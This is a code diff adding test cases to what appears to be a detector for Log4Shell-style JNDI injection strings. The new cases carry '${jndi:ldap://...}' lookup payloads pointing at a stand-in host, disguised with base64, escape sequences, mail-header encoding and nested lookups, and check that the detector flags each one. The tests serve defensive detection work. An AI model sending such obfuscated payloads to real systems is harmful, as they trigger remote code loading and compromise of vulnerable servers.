@@ -190,3 +190,16 @@ test('where layers left letters as they were that those within need, it is found
     { numRuns: Number(process.env['RUNS'] ?? 500) },
   )
 })
+
+test.each([
+  ['an octal digit in %u', '\\%u003044\\173jndi:ldap://a.example/a\\175'],
+  ['a token with a blank', `${Buffer.from('{ "alg":"${jndi:ldap://a.example/a}"}').toString('base64url')}.e30.x`],
+  ['base64 of the payload alone', `session=${Buffer.from('${jndi:ldap://a.example/a}').toString('base64')}; a=b`],
+  ['base64 of one in another', `d=${Buffer.from('${${::-j}ndi:ldap://a.example/a}').toString('base64')}`],
+  ['a word of a mail header', `Subject: =?utf-8?B?${Buffer.from('${jndi:ldap://a.example/a}').toString('base64')}?=`],
+  ['escapes of Perl', '\\x{24}\\x{7b}jndi:ldap://a.example/a\\x{7d}'],
+])('%s is found', (_what, written) => {
+  expect(huntIn(`first line\n${written}\nlast line\n`).findings).toMatchObject([
+    { at: { line: 2 }, verdict: 'fires', lookup: { host: 'a.example', path: 'a' } },
+  ])
+})
